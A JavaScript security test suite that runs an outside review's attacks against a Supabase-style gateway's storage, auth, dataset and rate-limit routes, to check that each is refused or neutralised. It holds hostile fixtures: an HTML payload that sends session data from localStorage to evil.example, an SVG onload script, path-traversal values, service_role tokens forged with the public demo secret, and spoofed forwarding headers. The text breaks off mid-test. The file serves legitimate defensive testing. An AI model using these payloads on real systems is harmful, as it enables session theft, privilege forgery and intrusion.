// Bad-input corpus, phase "review" (issue 15's attacks, SPEC §14): the outside security review's attack
// classes sent generically through the gateway, with the corpus' invariants on every answer (no 5xx, the
// family's error shape, no stack traces, row counts unchanged once cleaned up) plus each attack's own:
//  - storage: active types claimed on every upload route into buckets that allow only images are refused,
//    or stored with a checked type and served with nosniff, sandboxed and as an attachment on every download;
//  - tokens signed with Supabase's public demo secret: 401 on every route (when this run has its own secret);
//  - client-written dataset rows (lying sizes, other users' and traversal paths, huge values) and jobs
//    made from them: no 5xx and no byte of another user's object in any answer;
//  - forwarded-address spoofing never buys a fresh per-IP budget (bursts from a non-exempt 127.x.y.z);
//  - one-time-code guessing, anonymous email changes, OAuth callbacks with forged or missing state, and
//    refresh tokens after a password change.
// Run against the started suite: cd e2e/corpus && node --test review.test.js (env as corpus.test.js).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { randomInt, randomUUID } from 'node:crypto';
import { ROUTES } from './routes.js';
import { Checker, isWrite } from './invariants.js';
import { ANON_KEY, SERVICE_KEY, SECRET, hs256 } from './corpus.js';
import { send, pool, counts, psql, TABLES, GATEWAY } from './http.js';

const DEMO_SECRET = 'super-secret-jwt-token-with-at-least-32-characters-long';
const CONCURRENCY = Number(process.env.CORPUS_CONCURRENCY ?? 6);
const RUN_STARTED = new Date().toISOString();
const inv = new Checker();
const { check, fail, report } = inv;
const users = []; // every user this file made: removed at the end
const buckets = []; // buckets this file made
let before0;

// ---- plumbing ----

/** A request with JSON helpers: `token` as Bearer (and the anon key as apikey unless given). */
async function call(method, path, { token, apikey = ANON_KEY, json, body, headers = {}, localAddress } = {}) {
  const h = { ...(apikey ? { apikey } : {}), ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers };
  let payload = body ?? null;
  if (json !== undefined) { payload = Buffer.from(JSON.stringify(json)); h['content-type'] ??= 'application/json'; }
  if (typeof payload === 'string') payload = Buffer.from(payload);
  const res = await send(method, path, { headers: h, body: payload, localAddress });
  try { res.json = JSON.parse(res.text); } catch { res.json = undefined; }
  return res;
}

/** The route (as routes.js names it) a concrete path belongs to, for the error shape and the report. */
const route = (method, path, extra = {}) => ({ method, path: path.split('?')[0], ...extra });

async function newUser(prefix) {
  const email = `corpus-review-${prefix}-${randomUUID().slice(0, 8)}@example.test`;
  const password = `pw-${randomUUID()}`;
  const res = await call('POST', '/auth/v1/signup', { json: { email, password } });
  assert.equal(res.status, 200, `sign-up failed: ${res.status} ${res.text}`);
  const u = { id: res.json.user.id, email, password, token: res.json.access_token, refresh: res.json.refresh_token };
  users.push(u.id);
  return u;
}

/** An address of the run's own on the loopback network (never 127.0.0.1), when the gateway is on loopback. */
const LOOPBACK = ['127.0.0.1', 'localhost'].includes(GATEWAY.hostname);
const ownAddress = () => (LOOPBACK ? `127.${randomInt(1, 255)}.${randomInt(0, 256)}.${randomInt(1, 255)}` : undefined);

const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082', 'hex');
const HTML = '<html><body><script>fetch("//evil.example/?"+localStorage.getItem("sb"))</script></body></html>';

before(async () => {
  const health = await send('GET', '/gateway/health');
  assert.equal(health.status, 200, `gateway not up at ${GATEWAY.href}`);
  before0 = counts();
});

// ---- 1. storage: active types into buckets that allow only images ----

/** Content-Type values a browser would run (or that normalise to one), as a client may spell them. */
const ACTIVE_TYPES = ['text/html', 'application/xhtml+xml', 'image/svg+xml', 'text/xml', 'application/xml',
  'application/javascript', 'text/javascript', 'TEXT/HTML', 'Image/SVG+XML', 'text/html; charset=utf-8',
  'image/svg+xml;charset=UTF-8', ' text/html ', 'text/html\t', 'text/html ; q=1', 'image/png, text/html',
  'image/png text/html', 'text/html;image/png', 'image/svg+xml; x=image/png', 'application/octet-stream', 'image/*', '*/*'];
/** What a browser shows inline and never runs (raster images): everything else must come sandboxed, as an attachment. */
const INERT_INLINE = new Set(['image/png', 'image/jpeg', 'image/gif', 'image/webp', 'image/avif', 'image/bmp', 'image/x-icon']);

function multipart(parts, boundary = `----review${randomUUID().slice(0, 8)}`) {
  const chunks = [];
  for (const p of parts) {
    if (p.file) {
      chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name ?? ''}"; filename="blob"\r\n`
        + (p.type ? `Content-Type: ${p.type}\r\n` : '') + '\r\n'), p.file, Buffer.from('\r\n'));
    } else {
      chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"\r\n\r\n${p.value}\r\n`));
    }
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(chunks), type: `multipart/form-data; boundary=${boundary}` };
}

/**
 * Every way to upload `type` as the caller: raw and multipart bodies, the type before / after / in the
 * file part, duplicated, x-upsert and PUT over an existing image, signed upload URLs. Each yields the
 * request and the object name it writes.
 */
function uploadForms(bucket, folder, type, victim) {
  const file = Buffer.from(HTML);
  const mp = (parts, ct) => { const m = multipart(parts); return { body: m.body, headers: { 'content-type': ct ? ct(m.type) : m.type } }; };
  const fresh = () => `${folder}/rv-${randomUUID().slice(0, 8)}.png`;
  return [
    ['raw POST', 'POST', fresh(), { body: file, headers: { 'content-type': type } }],
    ['raw POST x-upsert over an image', 'POST', victim, { body: file, headers: { 'content-type': type, 'x-upsert': 'true' } }],
    ['raw PUT over an image', 'PUT', victim, { body: file, headers: { 'content-type': type } }],
    ['multipart: type field before the file', 'POST', fresh(), mp([{ name: 'contentType', value: type }, { file, type: 'image/png' }])],
    ['multipart: type field after the file', 'POST', fresh(), mp([{ file, type: 'image/png' }, { name: 'contentType', value: type }])],
    ['multipart: type in the file part only', 'POST', fresh(), mp([{ file, type }])],
    ['multipart: duplicate type fields (image first)', 'POST', fresh(), mp([{ name: 'contentType', value: 'image/png' }, { name: 'contentType', value: type }, { file, type: 'image/png' }])],
    ['multipart: duplicate type fields (image last)', 'POST', fresh(), mp([{ name: 'contentType', value: type }, { name: 'contentType', value: 'image/png' }, { file, type }])],
    ['multipart: mixed-case request type', 'POST', fresh(), mp([{ name: 'contentType', value: type }, { file, type }], (t) => t.replace('multipart/form-data', 'Multipart/Form-Data'))],
    ['multipart PUT over an image', 'PUT', victim, mp([{ name: 'contentType', value: type }, { file, type: 'image/png' }])],
    ['multipart POST x-upsert over an image', 'POST', victim, (() => { const m = mp([{ name: 'contentType', value: type }, { file, type }]); m.headers['x-upsert'] = 'true'; return m; })()],
    ['signed upload URL, raw', 'SIGNED', fresh(), { body: file, headers: { 'content-type': type } }],
    ['signed upload URL, multipart', 'SIGNED', fresh(), mp([{ name: 'contentType', value: type }, { file, type }])],
  ].map(([form, method, name, req]) => ({ form, method, name, bucket, ...req }));
}

/** Stored type and ETag of one object, read through storage's info route (as `who`); '' when there is none. */
async function stored(bucket, name, who) {
  const res = await call('GET', `/storage/v1/object/info/authenticated/${bucket}/${name}`, { token: who.token });
  return res.status === 200 ? `${res.json.content_type}|${res.json.etag ?? res.json.eTag ?? ''}` : '';
}
/** Stored types of every object in a folder, by name (one query). */
const storedTypes = (bucket, folder) => new Map(psql(`select name, coalesce(metadata->>'mimetype', '') from storage.objects
  where bucket_id = '${bucket}' and name like '${folder}/%'`).split('\n').filter(Boolean).map((l) => l.split('|')));

/** Every download form of a stored object: each must send nosniff and never serve an active type inline. */
async function checkDownloads(phase, bucket, name, storedType, owner, caseName) {
  const enc = name.split('/').map(encodeURIComponent).join('/');
  const signed = await call('POST', `/storage/v1/object/sign/${bucket}/${enc}`, { token: owner.token, json: { expiresIn: 60 } });
  const forms = [
    ['public', 'GET', `/storage/v1/object/public/${bucket}/${enc}`, {}],
    ['public HEAD', 'HEAD', `/storage/v1/object/public/${bucket}/${enc}`, {}],
    ['public Range', 'GET', `/storage/v1/object/public/${bucket}/${enc}`, { headers: { range: 'bytes=0-9' } }],
    ['public ?download', 'GET', `/storage/v1/object/public/${bucket}/${enc}?download=x.html`, {}],
    ['authenticated', 'GET', `/storage/v1/object/authenticated/${bucket}/${enc}`, { token: owner.token }],
    ['authenticated HEAD', 'HEAD', `/storage/v1/object/authenticated/${bucket}/${enc}`, { token: owner.token }],
    ['authenticated Range', 'GET', `/storage/v1/object/authenticated/${bucket}/${enc}`, { token: owner.token, headers: { range: 'bytes=2-' } }],
    ['plain GET', 'GET', `/storage/v1/object/${bucket}/${enc}`, { token: owner.token }],
  ];
  if (signed.status === 200 && signed.json?.signedURL) {
    forms.push(['signed', 'GET', `/storage/v1${signed.json.signedURL}`, { apikey: null }],
      ['signed Range', 'GET', `/storage/v1${signed.json.signedURL}`, { apikey: null, headers: { range: 'bytes=0-0' } }],
      ['signed HEAD', 'HEAD', `/storage/v1${signed.json.signedURL}`, { apikey: null }]);
  } else fail(phase, `POST /storage/v1/object/sign/${bucket}`, caseName, name, `could not sign a stored object (${signed.status})`, signed);
  for (const [form, method, path, opts] of forms) {
    const res = await call(method, path, opts);
    const what = `${caseName} → ${form}`;
    check(phase, route(method, path), what, `${method} ${path.slice(0, 120)}`, res);
    if (res.status !== 200 && res.status !== 206) { fail(phase, `${method} ${form}`, what, path, `download answered ${res.status}`, res); continue; }
    const served = (res.headers['content-type'] ?? '').split(';')[0].trim().toLowerCase();
    const csp = res.headers['content-security-policy'] ?? '';
    const disposition = res.headers['content-disposition'] ?? '';
    if (!/nosniff/i.test(res.headers['x-content-type-options'] ?? '')) fail(phase, `${method} ${form}`, what, path, 'no X-Content-Type-Options: nosniff', res);
    if (!/sandbox/.test(csp) || !/default-src 'none'/.test(csp)) fail(phase, `${method} ${form}`, what, path, `storage answer without the gateway's sandbox CSP (${csp})`, res);
    if (served !== storedType) fail(phase, `${method} ${form}`, what, path, `served as ${served}, stored as ${storedType}`, res);
    if (!INERT_INLINE.has(served) && !/^attachment/i.test(disposition)) fail(phase, `${method} ${form}`, what, path, `active type ${served} served inline (${disposition})`, res);
    if (/[\r\n]/.test(disposition)) fail(phase, `${method} ${form}`, what, path, 'line break in Content-Disposition', res);
  }
}

/**
 * Uploads every form of every active type into `bucket` (which allows `allowed(type)` only) and checks each
 * answer; then the stored type of everything that was accepted, and every download form of each type stored
 * (how an object is served depends on its stored type alone).
 */
async function attackBucket(phase, bucket, owner, allowed) {
  const victim = `${owner.id}/victim-${randomUUID().slice(0, 8)}.png`;
  const made = await call('POST', `/storage/v1/object/${bucket}/${victim}`, { token: owner.token, body: PNG, headers: { 'content-type': 'image/png' } });
  assert.equal(made.status, 200, `the victim image: ${made.text}`);
  const victimState = await stored(bucket, victim, owner);
  const cases = ACTIVE_TYPES.flatMap((type) => uploadForms(bucket, owner.id, type, victim).map((f) => ({ ...f, type })));
  const upload = async (c) => {
    const caseName = `${c.form}: ${JSON.stringify(c.type)}`;
    let path = `/storage/v1/object/${bucket}/${c.name}`;
    let method = c.method;
    let token = owner.token;
    if (method === 'SIGNED') {
      const sign = await call('POST', `/storage/v1/object/upload/sign/${bucket}/${c.name}`, { token });
      check(phase, route('POST', '/storage/v1/object/upload/sign/{bucket}/{path}'), caseName, `sign ${c.name}`, sign, { mayAccept: true });
      if (sign.status !== 200 || !sign.json?.url) { fail(phase, 'POST /storage/v1/object/upload/sign', caseName, c.name, `no signed upload URL (${sign.status})`, sign); return null; }
      path = `/storage/v1${sign.json.url}`;
      method = 'PUT';
      token = undefined;
    }
    const res = await call(method, path, { token, body: c.body, headers: c.headers });
    check(phase, route(method, `/storage/v1/object/${bucket}/{path}`), caseName, `${method} ${path.slice(0, 100)} [${c.type}]`, res, { mayAccept: true });
    return { ...c, caseName, method, accepted: res.status >= 200 && res.status < 300, res };
  };
  // the forms that write over the existing image one at a time (each is checked, then the image put back)
  let storedCount = 0;
  for (const c of cases.filter((x) => x.name === victim)) {
    const u = await upload(c);
    const now = await stored(bucket, victim, owner);
    const [type] = now.split('|');
    if (u.accepted) {
      storedCount++;
      if (!allowed(type)) fail(phase, `${u.method} ${bucket}`, u.caseName, victim, `stored as ${type}, which the bucket does not allow`, u.res);
      await call('PUT', `/storage/v1/object/${bucket}/${victim}`, { token: owner.token, body: PNG, headers: { 'content-type': 'image/png' } });
    } else if (now !== victimState) {
      fail(phase, `${u.method} ${bucket}`, u.caseName, victim, `refused (${u.res.status}) but the image changed: ${victimState} → ${now}`, u.res);
    }
  }
  // the forms that write a new object, side by side
  const fresh = (await pool(cases.filter((x) => x.name !== victim), CONCURRENCY, upload)).filter(Boolean);
  const types = storedTypes(bucket, owner.id);
  const servedTypes = new Map();
  for (const u of fresh) {
    const type = types.get(u.name);
    if (u.accepted) {
      storedCount++;
      if (!allowed(type)) fail(phase, `${u.method} ${bucket}`, u.caseName, u.name, `stored as ${type}, which the bucket does not allow`, u.res);
      else if (!servedTypes.has(type)) servedTypes.set(type, u);
    } else if (type !== undefined) {
      fail(phase, `${u.method} ${bucket}`, u.caseName, u.name, `refused (${u.res.status}) but an object of type ${type} was stored`, u.res);
    }
  }
  for (const [type, u] of servedTypes) await checkDownloads(phase, bucket, u.name, type, owner, u.caseName);
  return { requests: cases.length, stored: storedCount, types: [...servedTypes.keys()] };
}

test('review: active types claimed on every upload route into buckets that allow only images', async () => {
  const phase = 'review-storage';
  const owner = await newUser('storage');
  const avatars = ['image/png', 'image/jpeg', 'image/gif', 'image/webp'];
  const seeded = await attackBucket(phase, 'avatars', owner, (t) => avatars.includes(t));

  // a bucket whose list is a wildcard ('image/*' admits image/svg+xml, which runs scripts): what is stored
  // must then come back sandboxed, as an attachment
  const bucket = `corpus-review-${randomUUID().slice(0, 8)}`;
  const create = await call('POST', '/storage/v1/bucket', { token: SERVICE_KEY, apikey: SERVICE_KEY,
    json: { id: bucket, name: bucket, public: true, allowed_mime_types: ['image/*'], file_size_limit: 1048576 } });
  assert.equal(create.status, 200, create.text);
  buckets.push(bucket);
  // the bucket has no policies: its uploads are made as service_role (the type checks apply to every caller),
  // into the owner's folder
  const wild = await attackBucket(phase, bucket, { id: owner.id, token: SERVICE_KEY }, (t) => t.startsWith('image/'));

  // copy and move: an HTML page stored as text/plain in datasets, and an SVG in the wildcard bucket, into avatars
  const page = `${owner.id}/page-${randomUUID().slice(0, 8)}.txt`;
  const up = await call('POST', `/storage/v1/object/datasets/${page}`, { token: owner.token, body: HTML, headers: { 'content-type': 'text/plain' } });
  assert.equal(up.status, 200, up.text);
  const svg = `${owner.id}/pic-${randomUUID().slice(0, 8)}.svg`;
  const svgUp = await call('POST', `/storage/v1/object/${bucket}/${svg}`, { token: SERVICE_KEY, apikey: SERVICE_KEY, body: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', headers: { 'content-type': 'image/svg+xml' } });
  assert.equal(svgUp.status, 200, svgUp.text);
  await checkDownloads(phase, bucket, svg, 'image/svg+xml', { id: owner.id, token: SERVICE_KEY }, 'SVG stored through a wildcard list');
  for (const [op, from, key] of [['copy', 'datasets', page], ['move', 'datasets', page], ['copy', bucket, svg], ['move', bucket, svg]]) {
    const dest = `${owner.id}/moved-${randomUUID().slice(0, 8)}.png`;
    // from the policy-less bucket as service_role: the destination's MIME types bind every caller
    const res = await call('POST', `/storage/v1/object/${op}`, { token: from === 'datasets' ? owner.token : SERVICE_KEY,
      json: { bucketId: from, sourceKey: key, destinationBucket: 'avatars', destinationKey: dest } });
    check(phase, route('POST', `/storage/v1/object/${op}`), `${op} ${from} → avatars`, `${op} ${key}`, res, { mayAccept: true });
    if (res.status < 300) {
      const [type] = stored('avatars', dest).split('|');
      if (!avatars.includes(type)) fail(phase, `POST /storage/v1/object/${op}`, `${op} ${from} → avatars`, dest, `stored as ${type} in avatars`, res);
    }
  }
  console.log(`review-storage: ${seeded.requests + wild.requests} uploads (${seeded.stored} stored in avatars as ${seeded.types.join(', ')}; ${wild.stored} in the image/* bucket as ${wild.types.join(', ')}), every download form checked per stored type`);
  assert.equal(report(phase), 0);
});

// ---- 2. tokens signed with Supabase's public demo secret ----

const ownSecret = SECRET !== DEMO_SECRET;
test('review: tokens signed with the public demo secret get 401 on every route', {
  skip: !ownSecret && 'this run uses the public demo secret itself (SUPABASE_JWT_SECRET unset or the demo value): nothing to prove',
}, async () => {
  const phase = 'review-demo-secret';
  const now = Math.floor(Date.now() / 1000);
  const uid = randomUUID();
  const demo = {
    anon: hs256({ iss: 'supabase-demo', role: 'anon', iat: 1641769200, exp: 1799535600 }, DEMO_SECRET),
    authenticated: hs256({ sub: uid, aud: 'authenticated', role: 'authenticated', email: 'x@example.test', iat: now - 5, exp: now + 3600, session_id: randomUUID() }, DEMO_SECRET),
    service_role: hs256({ iss: 'supabase-demo', role: 'service_role', iat: 1641769200, exp: 1799535600 }, DEMO_SECRET),
  };
  const cases = [];
  for (const r of ROUTES) {
    for (const [role, tok] of Object.entries(demo)) cases.push({ r, name: `${role}: Bearer and apikey`, headers: { apikey: tok, authorization: `Bearer ${tok}` } });
    // the key that would open everything, also alone and beside a valid anon key
    cases.push({ r, name: 'service_role: apikey only', headers: { apikey: demo.service_role } });
    cases.push({ r, name: 'service_role: Bearer beside the real anon key', headers: { apikey: ANON_KEY, authorization: `Bearer ${demo.service_role}` } });
  }
  const fill = (p) => p.replace(/\{(\w+)\}/g, (_, n) => (n === 'bucket' ? 'avatars' : n === 'path' ? `${uid}/x.png` : randomUUID()));
  await pool(cases, CONCURRENCY, async (c) => {
    const path = fill(c.r.path);
    const body = isWrite(c.r.method) ? Buffer.from('{}') : null;
    const res = await send(c.r.method, path, { headers: { ...c.headers, ...(body ? { 'content-type': 'application/json' } : {}) }, body });
    check('token', c.r, c.name, `${c.r.method} ${path}`, res);
    if (res.status !== 401) fail(phase, `${c.r.method} ${c.r.path}`, c.name, `${c.r.method} ${path}`, `answered ${res.status}, not 401`, res);
  });
  console.log(`review-demo-secret: ${cases.length} requests`);
  assert.equal(report('token') + report(phase), 0);
});

// ---- 3. client-written dataset rows, then jobs from them ----

test('review: client-written dataset rows and jobs made from them: no 5xx, nothing of another user', async () => {
  const phase = 'review-datasets';
  const a = await newUser('rows-a');
  const b = await newUser('rows-b');
  const marker = `B-SECRET-${randomUUID()}`;
  const line = (i, m = '') => JSON.stringify({ messages: [{ role: 'user', content: `q${i} ${m}` }, { role: 'assistant', content: `a${i} ${m}` }] });
  const bText = Array.from({ length: 60 }, (_, i) => line(i, marker)).join('\n') + '\n';
  const bPath = `${b.id}/${randomUUID().slice(0, 8)}/secret.jsonl`;
  assert.equal((await call('POST', `/storage/v1/object/datasets/${bPath}`, { token: b.token, body: bText, headers: { 'content-type': 'application/x-ndjson' } })).status, 200);
  const aPath = `${a.id}/${randomUUID().slice(0, 8)}/mine.jsonl`;
  assert.equal((await call('POST', `/storage/v1/object/datasets/${aPath}`, { token: a.token, body: Array.from({ length: 60 }, (_, i) => line(i)).join('\n') + '\n', headers: { 'content-type': 'application/x-ndjson' } })).status, 200);
  const seen = (res, where) => { if ((res.text ?? '').includes(marker)) fail(phase, where, 'cross-user', where, 'another user\'s object content in the answer', res); };

  const seed = (extra) => ({ user_id: a.id, filename: 'd.jsonl', storage_path: aPath, file_size: 100, total_examples: 60,
    total_tokens: 1200, avg_tokens_per_example: 20, quality_score: 0.9, single_turn_pct: 100, multi_turn_pct: 0,
    has_system_prompts: false, quality_issues: [], is_multilingual: false, looks_like_json: false, is_multi_turn: false, ...extra });
  const rows = {
    'file_size 1 over a real object': { file_size: 1 },
    'file_size 0': { file_size: 0 },
    'file_size int max': { file_size: 2147483647 },
    'file_size over int range': { file_size: 1e18 },
    'file_size negative': { file_size: -1 },
    'file_size as text': { file_size: 'lots' },
    'file_size fractional': { file_size: 1.5 },
    "another user's object": { storage_path: bPath },
    'dot-dot into another folder': { storage_path: `${a.id}/../${bPath}` },
    'encoded dot-dot': { storage_path: `${a.id}/%2e%2e/${bPath}` },
    'encoded slash': { storage_path: `${a.id}/..%2f${bPath.replaceAll('/', '%2f')}` },
    'backslashes': { storage_path: `${a.id}\\..\\${bPath.replaceAll('/', '\\')}` },
    'dot-dot deeper': { storage_path: `${a.id}/x/../../${bPath}` },
    'single dot segment': { storage_path: `${a.id}/./mine.jsonl` },
    'leading slash': { storage_path: `/${bPath}` },
    'empty segment': { storage_path: `${a.id}//${bPath}` },
    'query in the path': { storage_path: `${a.id}/x.jsonl?download=../../${bPath}` },
    'fragment in the path': { storage_path: `${a.id}/x.jsonl#/../../${bPath}` },
    'fullwidth dots': { storage_path: `${a.id}/\uff0e\uff0e/${bPath}` },
    'NUL in the path': { storage_path: `${a.id}/x\u0000.jsonl` },
    'path of 5,000 characters': { storage_path: `${a.id}/${'p'.repeat(5000)}` },
    'other user as owner': { user_id: b.id, storage_path: bPath },
    'missing object in own folder': { storage_path: `${a.id}/none/${randomUUID()}.jsonl` },
    'huge counts': { total_examples: 2147483647, total_tokens: 2147483647, avg_tokens_per_example: 2147483647 },
    'counts over int range': { total_examples: 1e40 },
    'huge float': { quality_score: 1e308, single_turn_pct: -1e308 },
    'filename of 100 KB': { filename: 'f'.repeat(100_000) },
    'filename with traversal': { filename: '../../etc/passwd' },
    'quality_issues 2,000 deep': { quality_issues: JSON.parse('['.repeat(2000) + ']'.repeat(2000)) },
    'quality_issues 10k entries': { quality_issues: Array.from({ length: 10_000 }, (_, i) => `issue ${i}`) },
    'id chosen by the client': { id: randomUUID() },
  };
  const accepted = [];
  for (const [name, extra] of Object.entries(rows)) {
    const res = await call('POST', '/rest/v1/datasets', { token: a.token, json: seed(extra), headers: { prefer: 'return=representation' } });
    check(phase, route('POST', '/rest/v1/datasets'), name, `insert ${name}`, res, { mayAccept: true });
    seen(res, 'POST /rest/v1/datasets');
    if (res.status === 201) {
      const row = Array.isArray(res.json) ? res.json[0] : res.json;
      if (row.storage_path !== aPath && !String(row.storage_path).startsWith(`${a.id}/`)) fail(phase, 'POST /rest/v1/datasets', name, name, `accepted a row naming ${row.storage_path}`, res);
      accepted.push([name, row]);
    }
  }
  let jobs = 0;
  await pool(accepted, CONCURRENCY, async ([name, row]) => {
    for (const [path, json] of [['/api/jobs', { dataset_id: row.id, task_type: 'qa', deployment_target: 'cloud' }],
      ['/slmgen/generate-notebook', { session_id: row.session_id, model_id: null }]]) {
      const res = await call('POST', path, { token: a.token, json });
      jobs++;
      check(phase, route('POST', path), `job from "${name}"`, `POST ${path}`, res, { mayAccept: true });
      seen(res, `POST ${path}`);
      const nb = res.json?.notebook_url ?? res.json?.download_url;
      if (res.status < 300 && nb) {
        const url = new URL(nb, GATEWAY);
        const got = await call('GET', url.pathname + url.search, { token: a.token });
        seen(got, 'notebook');
        let source = got.text ?? '';
        try { source = JSON.parse(source).cells.map((cell) => [].concat(cell.source).join('')).join('\n'); } catch { /* not a notebook */ }
        const link = /^DATASET_URL = "((?:[^"\\]|\\.)*)"$/m.exec(source)?.[1];
        if (link) { const u = new URL(JSON.parse(`"${link}"`)); seen(await call('GET', u.pathname + u.search, { apikey: null }), 'notebook dataset link'); }
      }
    }
    // the other user: neither the row nor a job from it
    for (const [method, path, json] of [['POST', '/api/jobs', { dataset_id: row.id, task_type: 'qa', deployment_target: 'cloud' }],
      ['POST', '/slmgen/generate-notebook', { session_id: row.session_id, model_id: null }], ['GET', `/api/datasets/${row.id}`],
      ['GET', `/slmgen/preview/${row.session_id}`]]) {
      const res = await call(method, path, { token: b.token, json });
      check(phase, route(method, path.replace(row.id, '{id}').replace(row.session_id, '{session_id}')), `B on A's "${name}"`, `${method} ${path}`, res);
      if (res.status < 400) fail(phase, `${method} ${path}`, `B on A's "${name}"`, path, `another user reached it (${res.status})`, res);
    }
  });
  console.log(`review-datasets: ${Object.keys(rows).length} rows (${accepted.length} accepted: ${accepted.map(([n]) => n).join(', ')}), ${jobs} job creations`);
  assert.equal(report(phase), 0);
});

// ---- 4. forwarded-address spoofing never buys a fresh per-IP budget ----

function perIpLimit(envName, gotrueDefault) {
  if (!LOOPBACK) return null;
  const exempt = process.env.AUTH_RATE_LIMIT_EXEMPT_ADDRESSES ?? '';
  if (/(^|[\s,])(127\.0\.0\.0\/8|0\.0\.0\.0\/0)($|[\s,])/.test(exempt)) return null;
  const value = Number(process.env[envName] ?? gotrueDefault);
  return value > 0 && value <= 200 ? value : null;
}
/** Headers a client may send to claim another address: many values, garbage, IPv6, very long lists, the exempt address. */
function spoofed(i) {
  const ip = () => `${randomInt(1, 224)}.${randomInt(0, 256)}.${randomInt(0, 256)}.${randomInt(1, 255)}`;
  const variants = [
    () => ({ 'x-forwarded-for': ip() }),
    () => ({ 'x-forwarded-for': Array.from({ length: 40 }, ip).join(', ') }),
    () => ({ 'x-forwarded-for': Array.from({ length: 300 }, ip).join(',') }),
    () => ({ 'x-forwarded-for': '127.0.0.1' }),
    () => ({ 'x-forwarded-for': `${ip()}, 127.0.0.1` }),
    () => ({ 'x-forwarded-for': '::1' }),
    () => ({ 'x-forwarded-for': `2001:db8::${randomInt(1, 65535).toString(16)}` }),
    () => ({ 'x-forwarded-for': `[2001:db8::${randomInt(1, 9999)}]:443, ${ip()}` }),
    () => ({ 'x-forwarded-for': "garbage, ', ;drop, 999.1.1.1, " + ip() }),
    () => ({ 'x-forwarded-for': `${ip()}`, 'x-real-ip': ip() }),
    () => ({ 'x-real-ip': '127.0.0.1' }),
    () => ({ forwarded: `for=${ip()};proto=https, for="[2001:db8::${randomInt(1, 999)}]:4711"` }),
    () => ({ forwarded: 'for=127.0.0.1' }),
    () => ({ 'x-client-ip': ip(), 'true-client-ip': ip(), 'cf-connecting-ip': ip(), 'fastly-client-ip': ip(), 'x-cluster-client-ip': ip() }),
  ];
  return variants[i % variants.length]();
}

const signInLimit = perIpLimit('AUTH_RATE_LIMIT_SIGNUP_SIGNIN', 30);
const mailLimit = perIpLimit('AUTH_RATE_LIMIT_OTP', 30);
const verifyLimit = perIpLimit('AUTH_RATE_LIMIT_VERIFY', 30);
const lifted = 'the per-IP limits are lifted for 127.0.0.0/8 in this run, or the gateway is not on loopback: nothing to burst against';
test('review: spoofed X-Forwarded-For / X-Real-IP / Forwarded never give a fresh per-IP budget', {
  skip: (signInLimit === null || mailLimit === null || verifyLimit === null) && lifted,
}, async () => {
  const phase = 'review-spoof';
  const bursts = [
    // [what, limit, request for the i-th call, what the calls within the limit answer]
    ['sign-in', signInLimit, () => ['POST', '/auth/v1/token?grant_type=password', { email: `corpus-review-nobody-${randomUUID().slice(0, 8)}@example.test`, password: 'wrong-password' }], 400,
      [['POST', '/auth/v1/signup', { email: `corpus-review-over-${randomUUID().slice(0, 8)}@example.test`, password: `pw-${randomUUID()}` }],
        ['POST', '/auth/v1/token?grant_type=password', { email: 'corpus-review-x@example.test', password: 'x' }]]],
    ['mail', mailLimit, () => ['POST', '/auth/v1/recover', { email: `corpus-review-nobody-${randomUUID().slice(0, 8)}@example.test` }], 200,
      [['POST', '/auth/v1/otp', { email: `corpus-review-over-${randomUUID().slice(0, 8)}@example.test`, create_user: true }],
        ['POST', '/auth/v1/recover', { email: 'corpus-review-x@example.test' }], ['POST', '/auth/v1/magiclink', { email: 'corpus-review-x@example.test' }]]],
    ['verify (code guessing)', verifyLimit, () => ['POST', '/auth/v1/verify', { type: 'email', email: `corpus-review-nobody-${randomUUID().slice(0, 8)}@example.test`, token: String(randomInt(0, 1e6)).padStart(6, '0') }], 403,
      [['POST', '/auth/v1/verify', { type: 'magiclink', email: 'corpus-review-x@example.test', token: '123456' }]]],
  ];
  let sent = 0;
  // each burst from an address of its own, the three side by side; within one burst, one request at a time
  await Promise.all(bursts.map(async ([what, limit, next, within, overs]) => {
    const address = ownAddress();
    for (let i = 0; i < limit; i++) {
      const [method, path, json] = next();
      const res = await call(method, path, { json, headers: spoofed(i), localAddress: address });
      sent++;
      check(phase, route(method, path), `${what} burst #${i + 1}`, `${method} ${path}`, res, { mayAccept: method !== 'POST' || what === 'mail' });
      if (res.status !== within) fail(phase, `${method} ${path}`, `${what} burst #${i + 1}`, path, `answered ${res.status} within the limit (expected ${within})`, res);
    }
    for (const [j, [method, path, json]] of overs.entries()) {
      for (let k = 0; k < 3; k++) {
        const headers = spoofed(j * 3 + k);
        const res = await call(method, path, { json, headers, localAddress: address });
        sent++;
        check(phase, route(method, path), `${what}: over the limit, spoofed ${JSON.stringify(headers).slice(0, 40)}`, `${method} ${path}`, res);
        if (res.status !== 429 || res.json?.error_code !== 'over_request_rate_limit') {
          fail(phase, `${method} ${path}`, `${what} over the limit with a spoofed address`, path, `answered ${res.status}, not 429: the spoofed header bought a fresh budget`, res);
        }
      }
    }
  }));
  // the same burst's refusals do not spill over to another real client
  const fresh = await call('POST', '/auth/v1/recover', { json: { email: 'corpus-review-x@example.test' }, localAddress: ownAddress() });
  if (fresh.status !== 200) fail(phase, 'POST /auth/v1/recover', 'another real client', '/auth/v1/recover', `another address is limited too (${fresh.status})`, fresh);
  console.log(`review-spoof: ${sent + 1} requests in three bursts`);
  assert.equal(report(phase), 0);
});

// ---- 5. codes, anonymous email changes, OAuth state, refresh tokens after a password change ----

test('review: one-time-code guessing, anonymous email changes, forged OAuth state, sessions after a password change', async () => {
  const phase = 'review-auth';
  const admin = { token: SERVICE_KEY, apikey: SERVICE_KEY };
  const from = ownAddress(); // code guesses from an address of their own (per-IP verify budget of 127.0.0.1 untouched)

  // one-time codes: five wrong guesses kill the code, every type and shape of guess refused
  const c = await newUser('code');
  const link = await call('POST', '/auth/v1/admin/generate_link', { ...admin, json: { type: 'magiclink', email: c.email } });
  assert.equal(link.status, 200, link.text);
  const code = link.json.email_otp ?? link.json.properties?.email_otp;
  assert.match(String(code), /^\d{6}$/);
  const guesses = [1, 2, 3, 4, 5].map((i) => String((Number(code) + i) % 1e6).padStart(6, '0'));
  for (const [i, token] of guesses.entries()) {
